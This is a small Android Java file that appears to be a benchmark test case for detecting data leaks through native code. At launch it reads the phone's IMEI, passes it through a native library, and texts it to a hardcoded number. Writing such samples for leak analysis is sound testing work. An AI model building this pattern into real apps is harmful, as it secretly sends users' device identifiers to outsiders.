// about       Native code copies a region of the first text to its stack and makes a new text of it.
// leak        DEV_IMEI sms
// native      StringRegion_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("StringRegion_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String text = start(phone.getDeviceId(), "settings");
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private static native String start(String device, String screen);
}
